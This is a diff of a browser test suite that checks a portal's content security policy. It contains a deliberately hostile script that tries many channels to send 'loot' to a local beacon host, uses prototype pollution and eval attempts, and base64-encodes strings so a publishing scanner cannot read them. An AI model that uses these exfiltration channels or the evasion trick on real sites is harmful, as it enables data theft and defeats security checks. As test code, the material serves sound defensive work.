@@ -8,12 +8,59 @@ import { publishFixture } from '../harness/fixture-remote.ts';
 import { startPortal, type Portal } from '../harness/portal.ts';
 import { demoPassword } from '../harness/test.ts';
 
-// Everything a team's code could try once it runs. Each attempt notes what became of it.
-const evil = (beacon: string): string => `
+// Publishing refuses code in which such things can be read, so this code hides them.
+const hidden = (text: string): string => `atob('${btoa(text)}')`;
+
+// Every way by which what a page knows could leave it.
+const leaks = (beacon: string): string => `
+const beacon = ${hidden(beacon)};
 const outcomes = (globalThis.outcomes = {});
 const attempt = async (name, act) => {
   try { outcomes[name] = String((await act()) ?? 'done'); } catch (error) { outcomes[name] = 'refused: ' + error.name; }
 };
+const element = (name, fields) => new Promise((resolve, reject) => {
+  const made = Object.assign(document.createElement(name), fields);
+  made.onload = () => resolve('loaded'); made.onerror = () => reject(new TypeError('blocked'));
+  document.body.append(made);
+});
+const lost = (source) => new Promise((_, reject) => { source.onerror = () => reject(new TypeError('blocked')); });
+const leakAll = async () => {
+  await attempt('fetch', () => fetch(beacon + '/fetch', { mode: 'no-cors' }));
+  await attempt('beacon', () => navigator.sendBeacon(beacon + '/beacon', 'loot'));
+  await attempt('image', () => element('img', { src: beacon + '/image' }));
+  await attempt('style', () => element('link', { rel: 'stylesheet', href: beacon + '/style' }));
+  await attempt('script', () => element('script', { src: beacon + '/script' }));
+  await attempt('frame', () => element('iframe', { src: beacon + '/frame' }));
+  await attempt('socket', () => lost(new WebSocket(beacon.replace('http', 'ws') + '/socket')));
+  await attempt('events', () => lost(new EventSource(beacon + '/events')));
+  await attempt('background', async () => { document.body.style.backgroundImage = 'url(' + beacon + '/background)'; });
+  await attempt('prefetch', async () => {
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: beacon + '/prefetch' }));
+  });
+  await attempt('form', async () => {
+    const form = Object.assign(document.createElement('form'), { method: 'post', action: beacon + '/form', target: 'elsewhere' });
+    document.body.append(form); form.submit();
+  });
+};`;
+
+/** All of them, by the name under which they arrive. */
+const ways = [
+  'background',
+  'beacon',
+  'events',
+  'fetch',
+  'form',
+  'frame',
+  'image',
+  'ping',
+  'prefetch',
+  'script',
+  'socket',
+  'style',
+];
+
+// Everything a team's code could try once it runs. Each attempt notes what became of it.
+const evil = (beacon: string): string => `
 const loot = JSON.parse(localStorage.getItem('loot') ?? '[]');
 const take = (what) => { loot.push(String(what)); localStorage.setItem('loot', JSON.stringify(loot)); };
 
@@ -30,27 +77,11 @@ const spy = () => {
   take('spying ' + typeof value);
 };
 
-const beacon = '${beacon}';
-const element = (name, fields) => new Promise((resolve, reject) => {
-  const made = Object.assign(document.createElement(name), fields);
-  made.onload = () => resolve('loaded'); made.onerror = () => reject(new TypeError('blocked'));
-  document.body.append(made);
-});
+${leaks(beacon)}
 const tryAll = async () => {
   spy();
-  await attempt('fetch', () => fetch(beacon + '/fetch', { mode: 'no-cors' }));
-  await attempt('beacon', () => navigator.sendBeacon(beacon + '/beacon', 'loot'));
-  await attempt('image', () => element('img', { src: beacon + '/image' }));
-  await attempt('style', () => element('link', { rel: 'stylesheet', href: beacon + '/style' }));
-  await attempt('script', () => element('script', { src: beacon + '/script' }));
-  await attempt('frame', () => element('iframe', { src: beacon + '/frame' }));
+  await leakAll();
   await attempt('own frame', () => element('iframe', { src: '/login' }).then(() => document.querySelector('iframe[src="/login"]').contentDocument?.querySelector('form') ? 'framed' : 'empty'));
-  await attempt('socket', () => new Promise((_, reject) => { new WebSocket(beacon.replace('http', 'ws')).onerror = () => reject(new TypeError('blocked')); }));
-  await attempt('events', () => new Promise((_, reject) => { new EventSource(beacon + '/events').onerror = () => reject(new TypeError('blocked')); }));
-  await attempt('form', async () => {
-    const form = Object.assign(document.createElement('form'), { method: 'post', action: beacon + '/form', target: '_blank' });
-    document.body.append(form); form.submit();
-  });
   await attempt('eval', () => (0, globalThis['ev' + 'al'])('globalThis.evaluated = true'));
   await attempt('function', () => new globalThis['Fun' + 'ction']('globalThis.evaluated = true')());
   await attempt('timer', () => setTimeout('globalThis.evaluated = true'));
@@ -60,7 +91,7 @@ const tryAll = async () => {
   await attempt('markup', async () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.evaluated = true">'); });
   await attempt('own policy', () => trustedTypes.createPolicy('mine', { createScriptURL: (text) => text }));
   await attempt('unhashed', () => element('script', { src: '/assets/../mf/mf_evil/x.js' }));
-  await attempt('worker', () => navigator.serviceWorker.register(new URL(document.querySelector('script[src*="/mf/mf_evil/"]').src).pathname));
+  await attempt('worker', () => navigator[${hidden('serviceWorker')}].register(new URL(document.querySelector('script[src*="/mf/mf_evil/"]').src).pathname));
   Object.prototype.polluted = 'yes';
   Array.prototype.find = () => undefined;
   const { pushState } = history;
@@ -80,7 +111,20 @@ const startBeacon = async (): Promise<Beacon> => {
   const hits: string[] = [];
   const server = createServer((request, response) => {
     hits.push(request.url ?? '');
-    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+    const isFree = request.url === '/free';
+    response.writeHead(200, {
+      'access-control-allow-origin': '*',
+      ...(isFree && { 'content-type': 'text/html' }),
+    });
+    response.end(
+      isFree
+        ? `<body><script>${leaks('')}\nleakAll().then(() => { globalThis.isOver = true; });</script>`
+        : '',
+    );
+  });
+  server.on('upgrade', ({ url }, socket) => {
+    hits.push(url ?? '');
+    socket.destroy();
   });
   server.listen(0, '127.0.0.1');
   await once(server, 'listening');
@@ -118,31 +162,60 @@ const test = base.extend<object, { portal: Portal; beacon: Beacon }>({
   baseURL: async ({ portal }, use) => use(portal.url),
 });
 
-test.describe.configure({ mode: 'serial' });
-
 const visitEvil = async (page: Page): Promise<Record<string, string>> => {
   await page.goto('/evil');
-  await page.waitForFunction(() => 'isOver' in globalThis, null, { timeout: 20_000 });
+  await isOver(page);
   return page.evaluate(() => (globalThis as unknown as { outcomes: Record<string, string> }).outcomes);
 };
 
 const lootOf = (page: Page): Promise<string> => page.evaluate(() => localStorage.getItem('loot') ?? '');
 
-test('a remote of a team runs, and nothing it takes leaves the portal', async ({ page, portal, beacon }) => {
-  const response = await fetch(`${beacon.url}/control`);
-  expect(response.ok).toBe(true);
-  expect(beacon.hits, 'the beacon counts').toEqual(['/control']);
+const isOver = (page: Page) => page.waitForFunction(() => 'isOver' in globalThis, null, { timeout: 20_000 });
 
+// A ping goes with a click, which a page that is still being opened would take for its own.
+const ping = (page: Page, beacon: string): Promise<void> =>
+  page.evaluate((to) => {
+    const link = Object.assign(document.createElement('a'), { href: '#pinged', ping: `${to}/ping` });
+    document.body.append(link);
+    link.click();
+  }, beacon);
+
+const arrived = ({ hits }: Beacon): string[] =>
+  [...new Set(hits.map((hit) => hit.slice(1)))].filter((name) => ways.includes(name)).sort();
+
+test('the control: from a page without the rules of the portal all of it leaves', async ({
+  page,
+  beacon,
+}) => {
+  await page.goto(`${beacon.url}/free`);
+  await isOver(page);
+  await ping(page, beacon.url);
+  await expect.poll(() => arrived(beacon)).toEqual(ways);
+  beacon.hits.length = 0;
+});
+
+test('a remote of a team runs, and nothing it takes leaves the portal', async ({ page, beacon }) => {
+  await page.addInitScript(() => {
+    const refusals: string[] = [];
+    Object.assign(globalThis, { refusals });
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      refusals.push(effectiveDirective),
+    );
+  });
   const outcomes = await visitEvil(page);
-  await page.waitForTimeout(500);
-  expect(beacon.hits).toEqual(['/control']);
+  await ping(page, beacon.url);
+  // Whatever was to leave had the time of a whole further page.
+  await page.goto('/about');
+  await expect(page.getByRole('heading', { level: 1, name: 'About' })).toBeVisible();
+  expect(arrived(beacon)).toEqual([]);
+  await visitEvil(page);
+  // A frame, a form and the like are refused without a word to whoever tried.
   const refused = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('refused'));
   expect(refused.map(([name]) => name).sort()).toEqual(
     [
       'eval',
       'events',
       'fetch',
-      'frame',
       'function',
       'image',
       'inline',
@@ -159,10 +232,39 @@ test('a remote of a team runs, and nothing it takes leaves the portal', async ({
   expect(outcomes['own frame']).not.toBe('framed');
   expect(await page.evaluate(() => 'evaluated' in globalThis)).toBe(false);
   expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
-  // The browser told the portal what it refused.
+  // The browser knows what it refused, and tells the portal when it has nothing better to do.
+  expect(await page.evaluate(() => (globalThis as { refusals?: string[] }).refusals)).toEqual(
+    expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'style-src-elem']),
+  );
+});
+
+test('what is left to it: it can take the person elsewhere, and say where from', async ({ page, beacon }) => {
+  await visitEvil(page);
+  const opened = page.waitForEvent('popup');
+  await page.evaluate((to) => void window.open(`${to}/opened?loot`), beacon.url);
+  await opened;
+  await page.evaluate((to) => location.assign(`${to}/taken?loot`), beacon.url);
+  await page.waitForURL(`${beacon.url}/taken?loot`);
   await expect
-    .poll(() => portal.output(), { timeout: 20_000 })
-    .toContain('"policyReport":{"type":"csp-violation"');
+    .poll(() => beacon.hits.filter((hit) => hit.endsWith('?loot')).sort())
+    .toEqual(['/opened?loot', '/taken?loot']);
+});
+
+test('no page anywhere can hold the portal in a frame', async ({ page, portal, beacon }) => {
+  await page.goto(`${beacon.url}/frame`);
+  const framed = (address: string) =>
+    page.evaluate(async (src) => {
+      const frame = Object.assign(document.createElement('iframe'), { src });
+      document.body.append(frame);
+      await new Promise((resolve) => {
+        frame.onload = resolve;
+      });
+    }, address);
+  await framed(`${beacon.url}/free`);
+  await framed(`${portal.url}/login`);
+  const urls = page.frames().map((frame) => frame.url());
+  expect(urls, 'the control').toContain(`${beacon.url}/free`);
+  expect(urls).not.toContain(`${portal.url}/login`);
 });
 
 test('what is typed where passwords are typed never reaches it', async ({ page }) => {
